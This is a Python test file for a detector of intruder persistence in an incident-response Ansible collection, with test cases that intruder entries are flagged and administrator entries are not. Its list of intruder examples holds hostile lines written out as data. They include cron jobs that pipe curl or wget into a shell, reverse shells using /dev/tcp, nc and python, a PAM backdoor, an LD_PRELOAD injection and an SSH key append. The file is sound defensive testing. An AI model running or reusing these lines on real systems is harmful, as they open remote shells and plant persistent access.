# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import time

import pytest

from ansible_collections.firebreak.incident.plugins.module_utils.persistence.look import TEXT_LIMIT
from ansible_collections.firebreak.incident.plugins.module_utils.persistence.model import Item
from ansible_collections.firebreak.incident.plugins.module_utils.persistence.suspicion import (
    hooked,
    programs,
    reasons,
)

BAD = [
    ("cron", "*/5 * * * * root /usr/local/bin/.update >/dev/null 2>&1"),
    ("cron", "* * * * * curl -fsSL http://198.51.100.7/a.sh | sh"),
    ("cron", "@reboot root wget -qO- http://198.51.100.7/x | sudo bash -s"),
    ("cron", "@hourly root bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'"),
    ("cron", "* * * * * root /tmp/.X11-unix/kdevtmpfsi"),
    ("cron", "* * * * * root /bin/sh /dev/shm/run.sh"),
    ("unit", "[Service]\nExecStart=-/var/tmp/agent --quiet\n"),
    ("unit", '[Service]\nEnvironment="LD_PRELOAD=/usr/lib/libselinux.so.9"\nExecStart=/usr/sbin/x\n'),
    ("unit", '[Service]\nExecStart=/bin/bash -c "echo YmFzaA== | base64 -d | bash"\n'),
    ("shell", "nohup nc 198.51.100.7 4444 -e /bin/sh &\n"),
    ("home_shell", "alias x=y\nbash <(curl -s http://198.51.100.7/r)\n"),
    ("shell", "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"),
    ("shell", "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
    ("pam", "auth sufficient pam_permit.so\n"),
    ("pam", "session optional pam_exec.so quiet expose_authtok /dev/shm/log.sh\n"),
    ("udev", 'SUBSYSTEM=="net", RUN+="/opt/.cache/x"\n'),
    ("kernel", "install usb-storage /tmp/x; /sbin/modprobe --ignore-install usb-storage\n"),
    ("key", 'command="curl http://198.51.100.7/x | sh"'),
]

GOOD = [
    ("cron", "17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
    ("cron", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2fsprogs/e2scrub_all"),
    ("cron", '0 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'),
    ("cron", "5 4 * * * root /opt/app/backup.sh > /tmp/backup.log 2>&1"),
    ("cron", "0 * * * * root curl -fsS -m 10 https://hc-ping.com/abc | logger -t ping"),
    ("cron", "# curl http://198.51.100.7/a | sh\n"),
    ("unit", "[Service]\nExecStart=/usr/bin/python3 /opt/zekka/app.py\nPrivateTmp=true\n"),
    ("shell", "if [ -d /etc/profile.d ]; then for i in /etc/profile.d/*.sh; do . $i; done; fi\n"),
    ("home_shell", '. "$HOME/.cargo/env"\nexport PATH=$HOME/.local/bin:$PATH\n'),
    ("pam", "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequired\tpam_permit.so\n"),
    ("kernel", "install dccp /bin/true\ninstall cramfs /usr/bin/false\n"),
    ("hook", 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n'),
    ("sudo", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart zekka\n"),
]


@pytest.mark.parametrize(("kind", "text"), BAD)
def test_what_intruders_write_is_suspicious(kind: str, text: str) -> None:
    assert reasons(Item(kind, "/x", text=text))


@pytest.mark.parametrize(("kind", "text"), GOOD)
def test_what_administrators_write_is_not(kind: str, text: str) -> None:
    assert reasons(Item(kind, "/x", text=text)) == []


def test_a_file_that_everybody_may_write_is_suspicious_whatever_is_in_it() -> None:
    assert reasons(Item("cron", "/etc/cron.d/x", mode=0o666)) == ["everybody may write to it"]


def test_the_program_of_a_job_is_found_behind_its_user_and_interpreter() -> None:
    job = Item("cron", "/x", text="MAILTO=root\n*/5 1-3 * * mon root /bin/bash /opt/a b\n@daily /usr/bin/c\n")
    assert list(programs(job)) == ["/opt/a", "/usr/bin/c"]


def test_hooks_name_what_they_run() -> None:
    text = 'APT::Update::Pre-Invoke {"/opt/x &";};'
    assert hooked(Item("hook", "/etc/apt/apt.conf.d/99x", text=text)) == ["/opt/x &"]


@pytest.mark.parametrize("kind", ["cron", "unit", "udev", "pam", "kernel", "key", "shell"])
def test_garbage_is_no_error_and_takes_no_time(kind: str) -> None:
    started = time.process_time()
    for part in ("\udcff\udc00", "a=", "curl ", "* ", '"', " ", "\n", "/", "sh <", "Pre-x ", "socat|eval "):
        text = part * (TEXT_LIMIT // len(part))
        assert isinstance(reasons(Item(kind, "/x", text=text)), list)
        hooked(Item(kind, "/etc/apt/apt.conf", text=text))
    assert time.process_time() - started < 20
